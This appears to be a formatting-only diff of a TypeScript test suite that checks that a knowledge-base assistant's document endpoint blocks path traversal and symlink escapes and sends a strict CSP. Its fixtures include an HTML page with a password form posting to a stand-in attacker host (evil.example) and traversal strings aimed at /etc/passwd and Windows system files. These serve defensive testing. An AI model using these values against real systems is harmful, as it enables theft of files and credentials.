@@ -18,7 +18,10 @@ function knowledgeWithTraps(): { knowledgeDir: string; secret: string } {
   const knowledgeDir = tempDir("fw-sources-");
   mkdirSync(join(knowledgeDir, "ict"));
   writeFileSync(join(knowledgeDir, "ict", "profiel.md"), "# Profiel\n\nBelangen behartigen.\n");
-  writeFileSync(join(knowledgeDir, "pagina.html"), '<h1>Pagina</h1><script>window.ran=1</script><form action="https://evil.example"><input type=password></form>');
+  writeFileSync(
+    join(knowledgeDir, "pagina.html"),
+    '<h1>Pagina</h1><script>window.ran=1</script><form action="https://evil.example"><input type=password></form>',
+  );
   writeFileSync(join(knowledgeDir, "niet-geindexeerd.txt"), "staat niet in de index\n");
   symlinkSync(secret, join(knowledgeDir, "leak.txt"));
   symlinkSync(outside, join(knowledgeDir, "uitweg"));
@@ -40,7 +43,14 @@ describe("citation sources: section text and read-only documents from the knowle
   const document = (source: string) => get(`/api/document?source=${encodeURIComponent(source)}`);
 
   beforeAll(async () => {
-    server = await listen(createHttpApp({ config: loadConfig({ KNOWLEDGE_DIR: knowledgeDir }), logger: silentLogger, assistant: () => new IndexedAssistant(), feedback: new MemoryFeedback() }));
+    server = await listen(
+      createHttpApp({
+        config: loadConfig({ KNOWLEDGE_DIR: knowledgeDir }),
+        logger: silentLogger,
+        assistant: () => new IndexedAssistant(),
+        feedback: new MemoryFeedback(),
+      }),
+    );
   });
   afterAll(() => server.close());
 
@@ -71,7 +81,14 @@ describe("citation sources: section text and read-only documents from the knowle
   });
 
   it("refuses .. segments, absolute paths and symlinks that leave the folder", async () => {
-    for (const source of ["../../../etc/passwd", "ict/../../secrets.txt", "..\\..\\secrets.txt", "/etc/passwd", "C:\\Windows\\win.ini", "\\\\server\\share\\x.txt"]) {
+    for (const source of [
+      "../../../etc/passwd",
+      "ict/../../secrets.txt",
+      "..\\..\\secrets.txt",
+      "/etc/passwd",
+      "C:\\Windows\\win.ini",
+      "\\\\server\\share\\x.txt",
+    ]) {
       const response = await document(source);
       expect(response.status, source).toBe(400);
       expect(await response.text()).not.toContain("root:");
@@ -92,7 +109,8 @@ describe("citation sources: section text and read-only documents from the knowle
 
   it("sends a CSP that allows no form targets, no <base> and no plugins on every page", async () => {
     const csp = (await get("/")).headers.get("content-security-policy")!;
-    for (const directive of ["default-src 'self'", "form-action 'none'", "base-uri 'none'", "object-src 'none'", "frame-ancestors 'none'"]) expect(csp).toContain(directive);
+    for (const directive of ["default-src 'self'", "form-action 'none'", "base-uri 'none'", "object-src 'none'", "frame-ancestors 'none'"])
+      expect(csp).toContain(directive);
     expect(csp).not.toContain("unsafe-inline");
   });
 });
